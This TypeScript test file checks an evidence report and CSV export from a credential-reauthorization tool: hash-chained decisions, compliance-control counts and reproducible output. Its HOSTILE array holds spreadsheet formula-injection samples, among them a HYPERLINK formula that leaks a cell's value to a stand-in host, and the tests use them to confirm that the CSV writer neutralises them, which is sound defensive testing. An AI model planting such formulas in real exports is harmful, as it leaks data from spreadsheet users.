import { createHash } from 'node:crypto';
import { mkdtemp, readdir, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  CONTROL_DESCRIPTIONS,
  CONTROL_RULES,
  controlsOf,
  SESSION_TERMINATION,
} from '../../lambdas/shared/domain/controls';
import {
  chainDecision,
  type DecisionAction,
  type DecisionInput,
  GENESIS_HASH,
} from '../../lambdas/shared/domain/decision';
import { csvField, neutralise, unneutralise } from '../../lambdas/shared/evidence/decisions-csv';
import { writeEvidenceReport } from '../../lambdas/shared/evidence/evidence-report';
import { createExportWriter } from '../../lambdas/shared/evidence/export-writer';
import { credentialPk, decisionSk } from '../../lambdas/shared/table-layout';

type Step = [DecisionAction, string, Partial<DecisionInput>?];

const A1 = '111111111111';
const A2 = '222222222222';
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2',
  '@SUM(A1:A2)',
  '\tcmd',
  '\rcmd',
  "'=already quoted",
  'plain, with "quotes"\nand a line',
];

/** One credential's chain, every decision with its item keys. */
function chain(
  credentialId: string,
  subject: { principal: string; owner: string },
  steps: Step[],
): Record<string, unknown>[] {
  const [accountId = '', kind = ''] = credentialId.split(':');
  let previous = { seq: 0, lastHash: GENESIS_HASH };
  return steps.map(([action, at, rest]) => {
    const decision = chainDecision(
      {
        credentialId,
        accountId,
        kind: kind as DecisionInput['kind'],
        principal: subject.principal,
        owner: subject.owner,
        action,
        reason: `${action} as recorded`,
        actor: 'system:scan',
        at,
        mode: 'enforce',
        policyId: 'sha256:aaaaaaaaaaaaaaaa',
        ...rest,
        evidence: { tier: 'standard', ...rest?.evidence },
      },
      previous,
    );
    previous = { seq: decision.seq, lastHash: decision.hash };
    return { pk: credentialPk(credentialId), sk: decisionSk(decision.at, decision.seq), ...decision };
  });
}

/** One credential of every kind of decision, and one decision after the export's time. */
function decisions(): Record<string, unknown>[] {
  return [
    ...chain(`${A1}:access-key:AKIAANSWERED`, { principal: 'svc-etl', owner: 'U01ANA' }, [
      [
        'flag',
        '2026-11-01T09:00:00.000Z',
        // A strict tier's idle flag: IAM.22 and CIS 1.12's 45 days are met.
        {
          evidence: {
            deadlineAt: '2026-11-08T09:00:00.000Z',
            triggers: ['idle'],
            limits: { idleDays: 30, maxAgeDays: 90 },
          },
        },
      ],
      ['notify', '2026-11-01T09:05:00.000Z'],
      [
        'reauthorize',
        '2026-11-02T15:30:00.000Z',
        {
          actor: 'slack:U01ANA',
          reason: HOSTILE[0],
          evidence: {
            approver: 'slack:U01ANA',
            until: '2027-01-31T15:30:00.000Z',
            actorName: 'Ana Example',
            actorEmail: 'ana@example.com',
          },
        },
      ],
      ['rotate', '2026-11-20T10:00:00.000Z', { actor: 'slack:U01ANA', reason: HOSTILE[1] }],
    ]),
    ...chain(
      `${A2}:secret:arn:aws:secretsmanager:us-east-1:${A2}:secret:db-AbCdEf`,
      { principal: 'db', owner: 'U02BOB' },
      [
        ['flag', '2026-11-01T09:00:00.000Z', { evidence: { deadlineAt: '2026-11-08T09:00:00.000Z' } }],
        ['escalate', '2026-11-06T09:00:00.000Z', { actor: 'system:enforce', reason: HOSTILE[2] }],
        ['disable', '2026-11-08T10:00:00.000Z', { actor: 'system:enforce', reason: HOSTILE[3] }],
        ['restore', '2026-11-09T08:00:00.000Z', { actor: 'slack:U02BOB', reason: HOSTILE[4] }],
        [
          'reauthorize',
          '2026-11-09T08:10:00.000Z',
          { actor: 'slack:U02BOB', evidence: { approver: 'slack:U02BOB' } },
        ],
      ],
    ),
    ...chain(`${A2}:access-key:AKIADRIFTED`, { principal: 'svc-old', owner: 'U02BOB' }, [
      [
        'flag',
        '2026-10-01T09:00:00.000Z',
        // A 90-day tier's idle flag: laxer than IAM.22 and CIS 1.12's 45 days, so no evidence of them.
        {
          evidence: {
            deadlineAt: '2026-10-08T09:00:00.000Z',
            triggers: ['idle'],
            limits: { idleDays: 90, maxAgeDays: 90 },
          },
        },
      ],
      [
        'disable',
        '2026-10-09T09:00:00.000Z',
        {
          actor: 'system:enforce',
          evidence: {
            revokedSessions: {
              policyName: 'reauth-revoke-sessions',
              issuedBefore: '2026-10-09T09:00:00.000Z',
            },
          },
        },
      ],
      [
        'drift',
        '2026-11-15T12:00:00.000Z',
        {
          actor: 'system:events',
          reason: HOSTILE[5],
          evidence: {
            by: 'arn:aws:iam::222222222222:user/mallory',
            seenBy: 'evt-1',
            deadlineAt: '2026-11-29T12:00:00.000Z',
          },
        },
      ],
    ]),
    ...chain(`${A1}:role:vendor-audit`, { principal: 'vendor-audit', owner: 'U03CAROL' }, [
      [
        'exempt',
        '2026-11-03T00:00:00.000Z',
        { reason: HOSTILE[6], evidence: { approver: 'ciso@example.com', until: '2026-12-15T00:00:00.000Z' } },
      ],
    ]),
    ...chain(`${A1}:access-key:AKIABREAKGLASS`, { principal: 'break-glass-admin', owner: 'U03CAROL' }, [
      [
        'exempt',
        '2026-11-03T00:00:00.000Z',
        { reason: HOSTILE[7], evidence: { protectedBy: 'break-glass-*' } },
      ],
    ]),
    ...chain(`${A1}:access-key:AKIALATE`, { principal: 'svc-late', owner: 'U04DAN' }, [
      [
        'flag',
        '2026-11-03T09:00:00.000Z',
        { evidence: { deadlineAt: '2026-11-10T09:00:00.000Z', triggers: ['usage-changed'] } },
      ],
      ['notify', '2026-11-03T09:01:00.000Z'],
      [
        'refuse',
        '2026-11-04T09:00:00.000Z',
        { actor: 'slack:U09EVE', evidence: { attempted: 'still-needed', refusedBecause: 'not-authorized' } },
      ],
      // After the export's time: checked and in the CSV, but the report as of the export does not count it.
      [
        'reauthorize',
        '2026-12-05T09:00:00.000Z',
        { actor: 'slack:U04DAN', evidence: { approver: 'slack:U04DAN' } },
      ],
    ]),
    ...chain(`${A2}:access-key:AKIAGONE`, { principal: 'svc-gone', owner: 'U04DAN' }, [
      ['flag', '2026-10-01T09:00:00.000Z', { evidence: { deadlineAt: '2026-10-08T09:00:00.000Z' } }],
      ['disable', '2026-10-09T09:00:00.000Z', { actor: 'system:enforce' }],
      ['delete', '2026-11-10T09:00:00.000Z', { actor: 'system:enforce' }],
    ]),
  ];
}

/** RFC 4180 reader: the test's own, so the writer is checked against the rules, not against itself. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  return rows;
}

let root: string;
const EXPORT_ID = '01764547200000-5e1ec7ed';

/**
 * The page as written, less the markup that keeps hyphenated words on one line: these tests check what
 * the page says; `keeps each hyphenated word whole` checks that markup.
 */
async function readPage(out: string): Promise<string> {
  const html = await readFile(join(root, out, 'report.html'), 'utf8');
  return html
    .replaceAll('<span class="nw">', '')
    .replaceAll('</span>', '')
    .replaceAll('<td class="nw">', '<td>');
}

async function report(out: string, asOf?: Date) {
  return writeEvidenceReport({ kind: 'dir', path: root }, join(root, out), asOf ? { asOf } : {});
}

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'reauth-report-contents-'));
  const writer = createExportWriter(root, { exportId: EXPORT_ID, exportTime: '2026-12-01T00:00:00.000Z' });
  const items = decisions();
  // Two files, each chain split between them and read newest first.
  await writer.addFile(items.filter((_, i) => i % 2 === 0).reverse());
  await writer.addFile(items.filter((_, i) => i % 2 === 1));
  await writer.close();
});

describe('the evidence report is reproducible', () => {
  it('gives the same bytes on every run of the same export, judged as of the export’s own time', async () => {
    const first = await report('one');
    const second = await report('two');

    expect(first.asOf).toBe('2026-12-01T00:00:00.000Z');
    for (const file of ['decisions.csv', 'report.html']) {
      const a = await readFile(join(root, 'one', file));
      const b = await readFile(join(root, 'two', file));
      expect(a.equals(b), file).toBe(true);
    }
  });

  it('names the export, its time, the period, the policies and modes, the tool and each input file’s SHA-256', async () => {
    await report('header');
    const html = await readPage('header');
    const version = JSON.parse(
      await readFile(new URL('../../package.json', import.meta.url), 'utf8'),
    ).version;

    expect(html).toContain(`<td class="id">${EXPORT_ID}</td><td>full</td><td>2026-12-01 00:00 UTC</td>`);
    expect(html).toContain('2026-12-01 00:00 UTC (the export&#39;s own time, from its manifest)');
    expect(html).toContain('2026-10-01 09:00 UTC to 2026-12-01 00:00 UTC');
    expect(html).toContain('1 decisions recorded after that time are in the chain check');
    expect(html).toContain(
      '<td class="id">sha256:<wbr>aaaaaaaaaaaaaaaa</td><td>enforce</td><td>standard</td>',
    );
    expect(html).toContain(`reauth ${version}`);
    const files = (await readdir(root, { recursive: true })).filter(
      (f) => f.endsWith('.json.gz') || f.endsWith('manifest-summary.json'),
    );
    expect(files.length).toBe(3);
    for (const file of files) {
      const sha = createHash('sha256')
        .update(await readFile(join(root, file)))
        .digest('hex');
      // Paths break only after a slash.
      expect(html).toContain(
        `<td class="id">${relative(root, join(root, file)).replaceAll('/', '/<wbr>')}</td>`,
      );
      expect(html).toContain(`<td class="id">${sha}</td>`);
    }
  });

  it('judges as of --as-of when given: a request answered after the export is no longer overdue', async () => {
    const asExported = await report('exported');
    const later = await report('later', new Date('2026-12-06T00:00:00Z'));
    const html = readPage;

    expect(asExported.asOf).toBe('2026-12-01T00:00:00.000Z');
    expect(later.asOf).toBe('2026-12-06T00:00:00.000Z');
    expect(await html('exported')).toContain('<dd data-figure="overdue">2</dd>');
    expect(await html('later')).toContain('<dd data-figure="overdue">1</dd>');
    expect(await html('later')).toContain('set with --as-of');
  });
});

describe('the page size it prints to', () => {
  it('is A4 unless told letter, in the print stylesheet, so a browser prints the pages report.pdf has', async () => {
    await writeEvidenceReport({ kind: 'dir', path: root }, join(root, 'a4'));
    await writeEvidenceReport({ kind: 'dir', path: root }, join(root, 'letter'), { paper: 'letter' });

    expect(await readPage('a4')).toContain('@page{size:A4;');
    expect(await readPage('letter')).toContain('@page{size:letter;');
  });
});

describe('every decision kind, with kind, principal, account and people named', () => {
  let html: string;
  beforeAll(async () => {
    await report('kinds');
    html = await readPage('kinds');
  });
  const section = (id: string) =>
    new RegExp(`<section id="${id}">(.*?)</section>`, 's').exec(html)?.[1] ?? '';

  it('tables approvals with the approver named as recorded, and an older one marked unresolved', () => {
    const approvals = section('approvals');
    expect(approvals).toContain('Approvals (reauthorizations) (2)');
    expect(approvals).toContain(
      '<td>2026-11-02 15:30 UTC</td><td>access-key</td><td>svc-etl</td><td>111111111111</td><td>U01ANA</td><td>Ana Example &lt;ana@example.com&gt; (slack:U01ANA)</td><td>2027-01-31 15:30 UTC</td>',
    );
    expect(approvals).toContain('<td>slack:U02BOB (unresolved: name not recorded with this decision)</td>');
    expect(approvals).not.toContain('2026-12-05');
  });

  it('keeps each hyphenated word on one line (dates, kinds, names), and breaks an identifier only after ":" and "/"', async () => {
    const written = await readFile(join(root, 'kinds', 'report.html'), 'utf8');

    expect(written).toContain(
      '<td><span class="nw">2026-11-02</span> 15:30 UTC</td><td class="nw">access-key</td><td class="nw">svc-etl</td><td>111111111111</td>',
    );
    expect(written).toContain(
      '<td class="id">111111111111:<wbr><span class="nw">access-key:</span><wbr>AKIAANSWERED</td>',
    );
    expect(written).toContain('.nw{white-space:nowrap}');
  });

  it('tables disables, rotations, restores and deletions; escalations; exemptions; protected principals; drift; refusals', () => {
    expect(section('disables')).toContain('(6)');
    for (const action of ['disable', 'rotate', 'restore', 'delete'])
      expect(section('disables')).toContain(`<td>${action}</td>`);
    expect(section('disables')).toContain('<td>secret</td><td>db</td><td>222222222222</td><td>U02BOB</td>');
    expect(section('escalations')).toContain(
      '<td>2026-11-06 09:00 UTC</td><td>secret</td><td>db</td><td>222222222222</td>',
    );
    expect(section('exemptions')).toContain(
      '<td>role</td><td>vendor-audit</td><td>111111111111</td><td>U03CAROL</td><td>ciso@example.com</td><td>2026-12-15 00:00 UTC</td>',
    );
    expect(section('protected')).toContain(
      '<td>break-glass-admin</td><td>111111111111</td><td>U03CAROL</td><td>break-glass-*</td>',
    );
    expect(section('drift')).toContain(
      '<td class="id">arn:<wbr>aws:<wbr>iam:<wbr>:<wbr>222222222222:<wbr>user/<wbr>mallory</td><td>evt-1</td>',
    );
    expect(section('refusals')).toContain(
      '<td>slack:U09EVE (unresolved: name not recorded with this decision)</td><td>still-needed</td><td>not-authorized</td>',
    );
  });

  it('lists each overdue credential with owner, deadline and days overdue', () => {
    expect(section('overdue')).toContain(
      '<td>access-key</td><td>svc-late</td><td>111111111111</td><td>U04DAN</td><td>2026-11-10 09:00 UTC</td><td>20</td>',
    );
    // The drift reopened a request whose deadline passed on the 29th too.
    expect(section('overdue')).toContain(
      '<td>svc-old</td><td>222222222222</td><td>U02BOB</td><td>2026-11-29 12:00 UTC</td><td>1</td>',
    );
  });

  it('opens with the summary figures and counts by action, kind, account and owner', () => {
    const figure = (id: string) => new RegExp(`data-figure="${id}">([^<]*)<`).exec(html)?.[1];
    expect(figure('in-scope')).toBe('7');
    expect(figure('overdue')).toBe('2');
    expect(figure('disabled')).toBe('3');
    expect(figure('rotated')).toBe('1');
    expect(figure('restored')).toBe('1');
    expect(figure('sessions-revoked')).toBe('1');
    expect(figure('deleted')).toBe('1');
    expect(figure('exempt-active')).toBe('1');
    expect(figure('exempt-expiring')).toBe('1');
    expect(figure('in-time')).toBe('1 of 6 requests due (16.7%)');
    expect(figure('median')).toBe('30.5 hours');
    expect(figure('usage-changed')).toBe('1');
    const counts = section('counts');
    expect(counts).toContain('<td>flag</td><td>5</td>');
    expect(counts).toContain('<td>access-key</td><td>14</td>');
    expect(counts).toContain('<td>222222222222</td><td>11</td>');
    expect(counts).toContain('<td>U02BOB</td><td>8</td>');
  });

  it('has a section per control that decisions evidence, saying what it asks and how many', () => {
    const controls = section('controls');
    for (const { control } of [...CONTROL_RULES, SESSION_TERMINATION]) {
      expect(CONTROL_DESCRIPTIONS[control], control).toBeDefined();
    }
    // The one disable that ended sessions evidences session termination.
    expect(controls).toContain('<h3>NIST SP 800-53 Rev. 5 AC-12</h3>');
    // By the credential's kind, the action, and a flag's trigger and tier limit: the access keys'
    // disables, delete and drift, and the strict tier's idle flag; the 90-day tier's is named as laxer.
    expect(controls).toContain(
      '<h3>AWS Security Hub IAM.22</h3><p>IAM user credentials unused for 45 days should be removed.</p><p>5 decisions evidence it:</p>',
    );
    expect(controls).toMatch(
      /IAM\.22<\/h3>.*?<li>flag: 1<\/li><\/ul><p class="note">1 flags are not counted: their tier's limit is laxer/s,
    );
    // A secret's disable is SecretsManager.3's, never IAM.22's; a key's rotation is IAM.3's.
    expect(controls).toMatch(
      /SecretsManager\.3<\/h3>.*?<li><a href="#disables">disable<\/a>: 1<\/li><\/ul>/s,
    );
    expect(controls).toMatch(/IAM\.3<\/h3>.*?<li><a href="#disables">rotate<\/a>: 1<\/li><\/ul>/s);
  });
});

describe('decisions.csv', () => {
  it('neutralises cells a spreadsheet would run as formulas, and each reads back to the recorded text', async () => {
    await report('csv');
    const rows = parseCsv(await readFile(join(root, 'csv', 'decisions.csv'), 'utf8'));
    const [head, ...body] = rows;
    const column = (name: string) => head?.indexOf(name) ?? -1;
    const reasons = body.map((row) => row[column('reason')] ?? '');

    for (const reason of reasons) expect(reason).not.toMatch(/^[=+\-@\t\r]/);
    for (const text of HOSTILE) {
      expect(reasons.map(unneutralise)).toContain(text);
    }
    expect(reasons).toContain(`'${HOSTILE[0]}`);
    expect(reasons).toContain(`''=already quoted`);
    expect(head).toEqual(expect.arrayContaining(['controls', 'prevHash', 'actorName', 'actorEmail']));
    const ana = body.find((row) => row[column('actorName')] === 'Ana Example');
    expect(ana?.[column('actorEmail')]).toBe('ana@example.com');
    expect(body.every((row) => row.length === head?.length)).toBe(true);
    const flag = body.find(
      (row) => row[column('action')] === 'flag' && row.some((cell) => cell.endsWith(':AKIAANSWERED')),
    );
    expect(flag?.[column('prevHash')]).toBe(GENESIS_HASH);
    expect(flag?.[column('controls')]?.split(';')).toEqual(
      controlsOf({
        action: 'flag',
        kind: 'access-key',
        evidence: { triggers: ['idle'], limits: { idleDays: 30 } },
      }),
    );
  });

  it('applies the rule to every cell, and round-trips any text', () => {
    for (const text of [...HOSTILE, '', 'x', "'", "''", '-', ' lead']) {
      expect(unneutralise(neutralise(text))).toBe(text);
    }
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('-3')).toBe("'-3");
    expect(csvField('\tx')).toBe("'\tx");
    expect(csvField('\rx')).toBe('"\'\rx"');
  });
});
